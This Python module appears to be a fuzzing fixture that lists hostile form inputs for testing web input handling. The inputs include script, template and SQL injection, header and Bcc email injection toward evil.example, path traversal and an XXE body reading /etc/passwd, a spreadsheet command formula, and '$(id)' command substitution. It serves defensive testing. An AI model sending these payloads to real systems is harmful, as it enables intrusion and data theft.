"""What is typed by who means harm. Each payload is bytes as they go into a form's body, percent-encoded by who sends it.

`MARK` stands in most: where it comes back as it was sent, with its angle bracket or quote, it was not escaped.
"""

MARK = "zq9x7"
PRODUCT = 7919 * 6841
"""What a template that computes would say for `7919*6841`."""

MARKUP = f"<{MARK} onx=1>"
_SUM = "7919*6841"

PAYLOADS: dict[str, bytes] = {
    name: payload if isinstance(payload, bytes) else payload.encode()
    for name, payload in {
        "markup": MARKUP,
        "closing": f"</title></textarea></script>{MARKUP}",
        "attribute": f'"><{MARK} onx="1',
        "attribute, single quotes": f"'><{MARK} onx='1",
        "markup, full width": f"＜{MARK}＞",
        "script address": f"javascript:alert({MARK})",
        "template, braces": f"{{{{{_SUM}}}}}{MARK}",
        "template, dollar": f"${{{_SUM}}}#{{{_SUM}}}<%= {_SUM} %>",
        "template, statement": f"{{% print({_SUM}) %}}",
        "template, attributes": "{{ config.__class__.__init__.__globals__ }}",
        "format, braces": "{0.__class__.__mro__}{}{self}{personal.__class__}",
        "format, percent": "%(password)s%n%s%x%d%%",
        "substitution tag": "[[link]] -link- {{link}} %link%",
        "header": f"{MARK}\r\nX-{MARK}: 1\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>",
        "header, line feed": f"{MARK}\nX-{MARK}: 1",
        "header, next line": f"{MARK}\u0085X-{MARK}: 1\u2028X-{MARK}: 2",
        "recipients": f"ana@example.org\nBcc: {MARK}@evil.example",
        "recipients, comma": f"ana@example.org, {MARK}@evil.example",
        "recipient, quoted": f'"<{MARK}>"@example.org',
        "path": "../../../../../../etc/passwd",
        "path, encoded": "..%2f..%2f..%2fetc%2fpasswd%00.png",
        "file address": "file:///etc/passwd",
        "formula": f"=cmd|' /C {MARK}'!A0",
        "formula, at": f"@SUM(1+1)*{MARK}",
        "quote": "'",
        "sql": f"' OR '1'='1' -- {MARK}",
        "sql, statement": "'; SELECT pg_sleep(3); --",
        "sql, array": "{1,2,NULL}::int[]",
        "command": f"$(id) `id` ; id | id && id {MARK}",
        "nul": b"a\0b",
        "controls": bytes(range(1, 32)),
        "lone surrogate": b"\xed\xa0\x80",
        "overlong": b"\xc0\xaf\xe0\x80\xaf",
        "cut short": b"\xf0\x9f\x98",
        "not a character": "\ufffe\uffff\U0010ffff",
        "right to left": f"\u202e{MARK}\u202c\u2066",
        "invisible": "\u200b\u200d\ufeff\u00ad",
        "stacked": "Z" + "\u0361" * 200,
        "ligature that grows": "\ufdfa" * 300,
        "long": "x" * 6_000,
        "longer": "<" * 60_000,
        "too long": "&" * 300_000,
        "empty": "",
        "space": " \t\u00a0\u3000 ",
        "negative": "-1",
        "huge": "9" * 40,
        "not a number": "NaN",
        "infinite": "1e999",
        "other digits": "١٢٣",
        "hexadecimal": "0x10",
        "a list": "[]",
        "an object": '{"$ne": null, "__proto__": {}}',
        "true": "true",
        "id": "00000000-0000-0000-0000-000000000000",
        "token": "eyJhbGciOiJub25lIn0.e30.",
    }.items()
}

BODIES: dict[str, tuple[str, bytes]] = {
    "json": ("application/json", b'{"email": {"$ne": null}}'),
    "xml": ("text/xml", b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'),
    "nothing": ("application/x-www-form-urlencoded", b""),
    "only separators": ("application/x-www-form-urlencoded", b"&&&===&%&%%&%zz=%"),
    "a field a thousand times": ("application/x-www-form-urlencoded", b"email=a%40b.c&" * 1000),
    "no type": ("", b"email=a"),
    "another charset": ("application/x-www-form-urlencoded; charset=utf-7", b"given_name=%2BADw-"),
    "parts": (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="email"; filename="../../x"\r\n\r\n<x>\r\n--b--\r\n',
    ),
    "parts without end": ("multipart/form-data; boundary=b", b"--b\r\nContent-Disposition: form-data; name="),
    "parts without boundary": ("multipart/form-data", b"--\r\n"),
}
"""Whole bodies of a post: their type, and what they are."""
